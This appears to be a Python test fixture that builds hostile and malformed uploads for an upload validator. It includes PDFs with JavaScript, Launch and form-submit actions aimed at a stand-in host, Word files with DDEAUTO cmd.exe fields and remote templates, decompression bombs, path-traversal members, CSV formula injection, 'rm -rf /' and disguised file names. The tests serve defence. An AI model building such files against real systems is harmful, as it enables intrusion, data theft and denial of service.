"""Files that somebody who means harm, or who errs, may send. All are made here, so that no
scanner of anybody's takes offence at the tree. Each is (name, content, how it may be refused)."""

import re
import struct
import zipfile
import zlib
from collections.abc import Iterator
from io import BytesIO
from typing import Any

from PIL import Image
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    StreamObject,
    TextStringObject,
)

from app.documents.records import Refusal
from tests.documents import OFFICE, WORD, archive, docx, pdf, picture, relation

Hostile = tuple[str, bytes, set[Refusal]]
ACTIVE = {Refusal.ACTIVE_CONTENT}
BROKEN = {Refusal.BROKEN}
UNKNOWN = {Refusal.UNKNOWN_KIND}
NOT_THAT = {Refusal.NOT_WHAT_ITS_NAME_SAYS}
SECRET = {Refusal.ENCRYPTED}
SCRIPT = b"<script>alert(1)</script>"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504


def hostile() -> Iterator[Hostile]:
    yield from _pdfs()
    yield from _texts_of_word()
    yield from _pictures()
    yield from _others()


# PDF


def _names(value: dict[str, Any]) -> DictionaryObject:
    made = DictionaryObject()
    for key, inner in value.items():
        made[NameObject(key)] = _made(inner)
    return made


def _made(value: Any) -> Any:
    match value:
        case dict() if not isinstance(value, StreamObject):
            return _names(value)
        case list():
            return ArrayObject([_made(one) for one in value])
        case int():
            return NumberObject(value)
        case str() if value.startswith("/"):
            return NameObject(value)
        case str():
            return TextStringObject(value)
    return value


def pdf_with(*, root: dict[str, Any] | None = None, page: dict[str, Any] | None = None) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(BytesIO(pdf())))
    for key, value in (root or {}).items():
        writer.root_object[NameObject(key)] = _made(value)
    for key, value in (page or {}).items():
        writer.pages[0][NameObject(key)] = writer._add_object(_made(value))
    return written(writer)


def written(writer: PdfWriter) -> bytes:
    stream = BytesIO()
    writer.write(stream)
    return stream.getvalue()


def raw_pdf(*objects: bytes, trailer: bytes = b"", first: int = 1) -> bytes:
    """By hand, with a right table."""
    out, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, first):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    size = len(objects) + 1
    return (
        out
        + b"xref\n0 %d\n0000000000 65535 f \n%strailer\n<</Size %d/Root 1 0 R%s>>\n"
        % (
            size,
            table,
            size,
            trailer,
        )
        + b"startxref\n%d\n%%%%EOF\n" % len(out)
    )


PAGES = (
    b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
)
PLAIN = b"<</Type/Catalog/Pages 2 0 R>>"


def compressed_pdf(hidden: bytes) -> bytes:
    """hidden: an object that stands compressed within another."""
    inner = [PLAIN[:-2] + b"/OpenAction 4 0 R>>", *PAGES, hidden]
    heads, body = b"", b""
    for number, one in enumerate(inner, 1):
        heads += b"%d %d " % (number, len(body))
        body += one + b" "
    packed = zlib.compress(heads + body)
    out = b"%PDF-1.7\n"
    place = len(out)
    out += b"5 0 obj\n<</Type/ObjStm/N 4/First %d/Length %d/Filter/FlateDecode>>stream\n" % (
        len(heads),
        len(packed),
    )
    out += packed + b"\nendstream\nendobj\n"
    start = len(out)
    rows = struct.pack(">BHB", 0, 0, 255)
    rows += b"".join(struct.pack(">BHB", 2, 5, index) for index in range(4))
    rows += struct.pack(">BHB", 1, place, 0) + struct.pack(">BHB", 1, start, 0)
    out += b"6 0 obj\n<</Type/XRef/Size 7/W[1 2 1]/Root 1 0 R/Length %d>>stream\n" % len(rows)
    return out + rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start


def bomb_pdf() -> bytes:
    """A few hundred kilobytes that unpack to hundreds of megabytes."""
    packed = zlib.compress(b"4 0 " + b" " * 300_000_000, 9)
    good = compressed_pdf(b"<<>>")
    head = re.compile(rb"/First \d+/Length \d+/Filter/FlateDecode>>stream\n.*?\nendstream", re.S)
    bomb = b"/First 4/Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(packed), packed)
    return head.sub(lambda _found: bomb, good, count=1)


def encrypted_pdf(user: str, owner: str) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(BytesIO(pdf())))
    writer.encrypt(user_password=user, owner_password=owner, algorithm="RC4-128")
    return written(writer)


JS = {"/S": "/JavaScript", "/JS": "app.alert(1)"}


def _pdfs() -> Iterator[Hostile]:
    writer = PdfWriter(clone_from=PdfReader(BytesIO(pdf())))
    writer.add_attachment("a.exe", b"MZ")
    yield "with-a-file.pdf", written(writer), ACTIVE
    named = {"/JavaScript": {"/Names": ["x", JS]}}
    yield "named-js.pdf", pdf_with(root={"/Names": named}), ACTIVE
    yield "opens-js.pdf", pdf_with(root={"/OpenAction": JS}), ACTIVE
    yield "page-js.pdf", pdf_with(page={"/AA": {"/O": JS}}), ACTIVE
    launch = {"/S": "/Launch", "/F": "cmd.exe"}
    yield "launch.pdf", pdf_with(root={"/OpenAction": launch}), ACTIVE
    yield "next.pdf", pdf_with(root={"/OpenAction": {"/S": "/URI", "/Next": [launch]}}), ACTIVE
    remote = {"/S": "/GoToR", "/F": "\\\\thief.example\\share\\x"}
    yield "remote.pdf", pdf_with(page={"/AA": {"/O": remote}}), ACTIVE
    yield "embedded.pdf", pdf_with(page={"/AA": {"/O": {"/S": "/GoToE"}}}), ACTIVE
    submit = {"/S": "/SubmitForm", "/F": "https://thief.example"}
    yield "submit.pdf", pdf_with(root={"/OpenAction": submit}), ACTIVE
    yield "xfa.pdf", pdf_with(root={"/AcroForm": {"/XFA": "x", "/Fields": []}}), ACTIVE
    yield "media.pdf", pdf_with(page={"/X": {"/Subtype": "/RichMedia"}}), ACTIVE
    attached = {"/Subtype": "/FileAttachment", "/FS": {"/EF": {}}}
    yield "attached.pdf", pdf_with(page={"/X": attached}), ACTIVE
    elsewhere = DecodedStreamObject()
    elsewhere[NameObject("/F")] = TextStringObject("\\\\thief.example\\x")
    yield "elsewhere.pdf", pdf_with(page={"/X": elsewhere}), ACTIVE
    coded = b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/J#61vaScript/#4AS(app.alert(1))>>>>"
    yield "coded.pdf", raw_pdf(coded, *PAGES), ACTIVE
    coded = coded.replace(b"J#61vaScript", b"URI").replace(b"#4AS", b"J#53")
    yield "coded-key.pdf", raw_pdf(coded, *PAGES), ACTIVE
    yield "compressed.pdf", compressed_pdf(b"<</S/JavaScript/JS(app.alert(1))>>"), ACTIVE
    orphan = b"9 0 obj\n<</S/JavaScript/JS(app.alert(1))>>\nendobj\n"
    yield "orphan.pdf", pdf().replace(b"xref\n", orphan + b"xref\n", 1), ACTIVE | BROKEN
    yield "bomb.pdf", bomb_pdf(), BROKEN
    yield "user-password.pdf", encrypted_pdf("a", "b"), SECRET
    yield "owner-password.pdf", encrypted_pdf("", "b"), SECRET
    for name, before in (("html", b"<html>" + SCRIPT), ("space", b"\n"), ("mark", b"\xef\xbb\xbf")):
        yield f"{name}-first.pdf", before + pdf(), NOT_THAT
    yield "zip-after.pdf", pdf() + archive({"a.exe": b"MZ"}), BROKEN
    yield "much-after.pdf", pdf() + b"x" * 5_000, BROKEN
    yield "no-more-than-a-head.pdf", b"%PDF-1.4\n", BROKEN
    yield "words.pdf", b"%PDF-1.4\n" + SCRIPT + b"\n%%EOF\n", BROKEN
    yield "half.pdf", pdf()[: len(pdf()) // 2], BROKEN
    yield "no-pages.pdf", raw_pdf(PLAIN, b"<</Type/Pages/Kids[]/Count 0>>"), BROKEN
    circle = b"<</Type/Pages/Kids[2 0 R]/Count 1>>"
    yield "circle.pdf", raw_pdf(PLAIN, circle), BROKEN
    deep = b"<</Type/Catalog/Pages 2 0 R/X " + b"[" * 50_000 + b"]" * 50_000 + b">>"
    yield "deep.pdf", raw_pdf(deep, *PAGES), BROKEN


# Word


def _texts_of_word() -> Iterator[Hostile]:
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    vba = {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}
    yield "macro.docm", docx(main=macro, members=vba), ACTIVE
    yield "macro.docx", docx(main=macro), ACTIVE
    yield "macro-part.docx", docx(members=vba), ACTIVE
    yield "macro-elsewhere.docx", docx(members={"x/VBAPROJECT.xml": "<x/>"}), ACTIVE
    yield "macro.zip", archive(vba), ACTIVE
    for kind, target in (
        ("attachedTemplate", "https://thief.example/x.dotm"),
        ("attachedTemplate", "file://///thief.example/share/x.dotm"),
        ("attachedTemplate", "\\\\thief.example\\share\\x.dotm"),
        ("oleObject", "https://thief.example/x"),
        ("image", "https://thief.example/seen.png"),
        ("frame", "https://thief.example/x.html"),
        ("subDocument", "https://thief.example/x.docx"),
        ("hyperlink", "javascript:alert(1)"),
        ("hyperlink", "file://thief.example/share/x"),
        ("hyperlink", "ms-msdt:/id PCWDiagnostic"),
    ):
        yield f"{kind}.docx", docx(relations=relation(kind, target)), ACTIVE
    settings = docx(
        members={
            "word/_rels/settings.xml.rels": '<Relationships xmlns="x">'
            + relation("attachedTemplate", "http://thief.example/x.dotm")
            + "</Relationships>"
        }
    )
    yield "settings.docx", settings, ACTIVE
    spelt = relation("image", "http://thief.example/x").replace('"External"', '"external"')
    yield "spelt.docx", docx(relations=spelt), ACTIVE
    inner = relation("oleObject", "media/image1.png", external=False)
    yield "object.docx", docx(relations=inner), ACTIVE
    chunk = relation("aFChunk", "part.xml", external=False)
    yield "chunk.docx", docx(relations=chunk, members={"word/part.xml": "<html/>"}), ACTIVE
    for member in ("word/embeddings/sheet.xlsx", "word/x.exe", "word/page.html", "word/in.zip"):
        yield f"{member[5:]}.docx", docx(members={member: b"x"}), ACTIVE
    field = "<w:instrText>%s</w:instrText>"
    dde = field % ' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '
    yield "dde.docx", docx(text=dde), ACTIVE
    yield "dde-split.docx", docx(text=field % " DD" + "<w:t/>" + field % "EAUTO x"), ACTIVE
    spelt_dde = field % "&#68;D&#x45;AUTO x"
    yield "dde-spelt.docx", docx(text=spelt_dde), ACTIVE
    yield "dde-cdata.docx", docx(text=field % "DD<![CDATA[EAUTO]]> x"), ACTIVE
    yield "dde-comment.docx", docx(text=field % "DD<!-- -->EAUTO x"), ACTIVE
    yield "dde-within.docx", docx(text=field % "D<w:t>DE</w:t>AUTO x"), ACTIVE
    simple = "<w:fldSimple w:instr='&#68;DE c:\\\\cmd x'/>"
    yield "dde-simple-spelt.docx", docx(text=simple), ACTIVE
    yield "dde-simple.docx", docx(text='<w:fldSimple w:instr="DDE c:\\\\cmd x"/>'), ACTIVE
    yield "fetching.docx", docx(text=field % "INCLUDEPICTURE http://thief.example/x"), ACTIVE
    yield from _archives()


def _archives() -> Iterator[Hostile]:
    entities = '<!DOCTYPE x [<!ENTITY a "aaaa">]><x>&a;</x>'
    yield "entities.docx", docx(members={"word/settings.xml": entities}), ACTIVE
    yield "utf16.docx", docx(members={"word/settings.xml": entities.encode("utf-16")}), BROKEN
    yield "bomb.docx", docx(members={"word/x.xml": b" " * 60_000_000}), BROKEN
    yield (
        "great-bomb.docx",
        docx(members={f"word/{n}.xml": b" " * 30_000_000 for n in range(5)}),
        (BROKEN),
    )
    yield "many.docx", docx(members={f"word/{n}.xml": b"<x/>" for n in range(3_000)}), BROKEN
    yield "lying-bomb.docx", _lying(docx(members={"word/x.xml": b" " * 60_000_000})), BROKEN
    yield "climbing.docx", docx(members={"../../etc/cron.d/x.xml": "<x/>"}), BROKEN
    yield "absolute.docx", docx(members={"/etc/x.xml": "<x/>"}), BROKEN
    yield "twice.docx", docx(members={"WORD/document.xml": "<x/>"}), BROKEN
    yield "before.docx", SCRIPT + docx(), NOT_THAT
    yield "zip-before.docx", archive({"a": b"x"}) + docx(), BROKEN
    yield "after.docx", docx() + SCRIPT, BROKEN
    yield "half.docx", docx()[:-200], BROKEN
    yield "damaged.docx", _damaged(docx()), BROKEN
    yield "locked.docx", _locked(docx()), SECRET
    package = OLE + "EncryptedPackage".encode("utf-16-le")
    yield "password.docx", package, SECRET
    sheet = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    yield "sheet.xlsx", docx(main=sheet), UNKNOWN
    yield "sheet.docx", docx(main=sheet), NOT_THAT
    yield "template.docx", docx(main=f"{WORD}.template.main+xml"), NOT_THAT
    yield "archive.zip", archive({"a.txt": b"x"}), UNKNOWN
    yield "archive.docx", archive({"a.txt": b"x"}), NOT_THAT
    yield "app.jar", archive({"META-INF/MANIFEST.MF": b"x", "A.class": b"x"}), UNKNOWN
    yield "text.odt", archive({"mimetype": b"application/vnd.oasis.opendocument.text"}), UNKNOWN
    types = f'<Override PartName="/x" ContentType="{OFFICE}/oleObject"/>'
    yield "types.docx", docx(types=types), ACTIVE


def _lying(content: bytes) -> bytes:
    """Says that its great member is small."""
    return content.replace(struct.pack("<L", 60_000_000), struct.pack("<L", 6_000))


def _damaged(content: bytes) -> bytes:
    with zipfile.ZipFile(BytesIO(content)) as packed:
        place = packed.getinfo("word/media/image1.png").header_offset
    return content[: place + 70] + b"\0\1\2\3" + content[place + 74 :]


def _locked(content: bytes) -> bytes:
    """With the bit that says that a password is needed."""
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        pieces = content.split(mark)
        content = mark.join([pieces[0], *(_with_bit(p, place - 4) for p in pieces[1:])])
    return content


def _with_bit(piece: bytes, place: int) -> bytes:
    return piece[:place] + bytes([piece[place] | 1]) + piece[place + 1 :]


# Pictures


def png_of(width: int, height: int) -> bytes:
    """A head that says so, and next to nothing in it."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        checksum = struct.pack(">L", zlib.crc32(kind + data))
        return struct.pack(">L", len(data)) + kind + data + checksum

    head = chunk(b"IHDR", struct.pack(">LLBBBBB", width, height, 8, 2, 0, 0, 0))
    data = chunk(b"IDAT", zlib.compress(b"\0" * 1_000))
    return b"\x89PNG\r\n\x1a\n" + head + data + chunk(b"IEND", b"")


def _sized(content: bytes, width: int, height: int) -> bytes:
    """A JPEG whose head says another size."""
    place = content.index(b"\xff\xc0") + 5
    return content[:place] + struct.pack(">HH", height, width) + content[place + 4 :]


def _pictures() -> Iterator[Hostile]:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"
    yield "drawing.svg", svg, UNKNOWN
    yield "drawing.png", svg, NOT_THAT
    yield "drawing.svg.jpg", b'<?xml version="1.0"?>' + svg, NOT_THAT
    for format in ("GIF", "BMP", "TIFF", "WEBP", "ICO", "PPM"):
        yield f"picture.{format.lower()}", picture(format), UNKNOWN
        yield f"{format}.jpg", picture(format), NOT_THAT
    yield "script.jpg", b"GIF89a/*" + picture("GIF")[8:] + b"*/=1;alert(1)", NOT_THAT
    too_large = {Refusal.PICTURE_TOO_LARGE}
    yield "huge.png", png_of(60_000, 60_000), too_large
    yield "wide.png", png_of(2**31 - 1, 1), too_large
    yield "large.png", png_of(7_100, 7_100), too_large
    yield "huge.jpg", _sized(picture(), 65_000, 65_000), too_large
    yield "empty-inside.png", png_of(6_000, 6_000), BROKEN
    yield "head.jpg", b"\xff\xd8\xff\xe0\0\x10JFIF\0", BROKEN
    yield "script-in-head.jpg", b"\xff\xd8\xff" + SCRIPT, BROKEN
    noise = BytesIO()
    Image.effect_noise((300, 300), 90).save(noise, "JPEG")
    yield "half.jpg", noise.getvalue()[: len(noise.getvalue()) // 2], BROKEN
    yield "half.png", picture("PNG", (600, 600))[:200], BROKEN
    yield "half.heic", picture("HEIF", (600, 600))[:400], BROKEN
    yield "box.heic", b"\0\0\0\x18ftypheic\0\0\0\0mif1heic", BROKEN
    yield "film.heic", b"\0\0\0\x18ftypisom\0\0\0\0isommp42" + b"\0" * 100, NOT_THAT
    yield "film.mp4", b"\0\0\0\x18ftypisom\0\0\0\0isommp42" + b"\0" * 100, UNKNOWN


# Whatever else


def _others() -> Iterator[Hostile]:
    yield "nothing.pdf", b"", {Refusal.EMPTY}
    yield "", b"", {Refusal.EMPTY}
    yield "large.pdf", b"%PDF-1.4\n" + b"x" * 3_000_000, {Refusal.TOO_LARGE}
    yield "page.html", b"<!DOCTYPE html><html>" + SCRIPT, UNKNOWN
    yield "page.pdf", b"<!DOCTYPE html><html>" + SCRIPT, NOT_THAT
    yield "page.jpg", SCRIPT, NOT_THAT
    yield "letter.doc", OLE, UNKNOWN
    yield "letter.docx", OLE, NOT_THAT
    yield "letter.rtf", b"{\\rtf1 x}", UNKNOWN
    yield "letter.txt", b"Ankes\xc3\xab", UNKNOWN
    yield "table.csv", b"=cmd|' /C calc'!A0,1", UNKNOWN
    yield "program.exe", b"MZ\x90\0" + b"\0" * 100, UNKNOWN
    yield "program.pdf", b"MZ\x90\0" + b"\0" * 100, NOT_THAT
    yield "program", b"\x7fELF" + b"\0" * 100, UNKNOWN
    yield "script.sh", b"#!/bin/sh\nrm -rf /\n", UNKNOWN
    yield "packed.gz", b"\x1f\x8b\x08" + b"\0" * 30, UNKNOWN
    yield "objects.pkl", b"\x80\x04\x95cos\nsystem\n", UNKNOWN
    yield "zeros.jpg", b"\0" * 10_000, NOT_THAT
    yield "x.pdf.exe", pdf(), NOT_THAT
    yield "x.exe", pdf(), NOT_THAT
    yield "x.html", pdf(), NOT_THAT
    yield "x.docx", pdf(), NOT_THAT
    yield "x.jpg", pdf(), NOT_THAT
    yield "x.pdf", picture(), NOT_THAT
    yield "x.docx", picture("PNG"), NOT_THAT
    yield "x.pdf", docx(), NOT_THAT
    yield "x.doc", docx(), NOT_THAT
    yield "x.docm", docx(), NOT_THAT
    yield "x.svg", picture("PNG"), NOT_THAT
    yield "x.gif", picture("JPEG"), NOT_THAT
    yield "fatura\u202efdp.exe", pdf(), NOT_THAT
    yield "x.pdf\0.html", pdf(), NOT_THAT
    yield "x.pdf;.php", pdf(), NOT_THAT
